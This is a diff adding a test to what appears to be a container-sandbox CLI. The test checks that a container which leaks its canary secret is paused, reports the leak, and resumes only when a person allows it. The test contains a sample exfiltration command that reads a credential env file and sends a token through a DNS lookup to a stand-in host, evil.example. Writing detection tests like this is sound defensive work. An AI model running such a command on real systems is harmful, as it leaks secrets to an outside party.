@@ -157,6 +157,20 @@ test('a kept bottle takes commands and files until it is removed', async () => {
   expect((await home.run(['rm', '--force', 'cli-kept'])).status).toBe(0);
 });
 
+test('a bottle that sends its canary is stopped, says so, and goes on when a person lets it', async () => {
+  expect((await home.run(['run', repository, '--keep', '--quiet', '--name', 'cli-canary', '--', 'true'])).status).toBe(0);
+  expect((await home.run(['status', 'cli-canary'])).stdout).not.toContain('canary to');
+  const leak = '. /etc/backup/storage.env; getent hosts "$BACKUP_STORAGE_TOKEN.evil.example"; true';
+  expect((await home.run(['exec', 'cli-canary', '--', 'sh', '-c', leak])).status).toBe(0);
+  const { stdout } = await home.run(['status', 'cli-canary']);
+  expect(stdout).toContain('it sent its canary to');
+  expect(stdout).toContain('terok egress resume cli-canary');
+  expect((await home.run(['egress', 'resume', 'cli-canary'])).status).toBe(0);
+  expect((await home.run(['egress', 'resume', 'cli-canary'])).status).toBe(121);
+  expect((await home.run(['status', 'cli-canary'])).stdout).not.toContain('canary to');
+  expect((await home.run(['rm', '--force', 'cli-canary'])).status).toBe(0);
+});
+
 test('a value of --env is in no command line of the host', async () => {
   const secret = 'sk-3f9a1c77d2';
   const running = home.start(['run', repository, '-e', 'TOKEN_HERE', '--quiet', '--', 'sh', '-c', 'echo "$TOKEN_HERE" | wc -c; sleep 1'], {
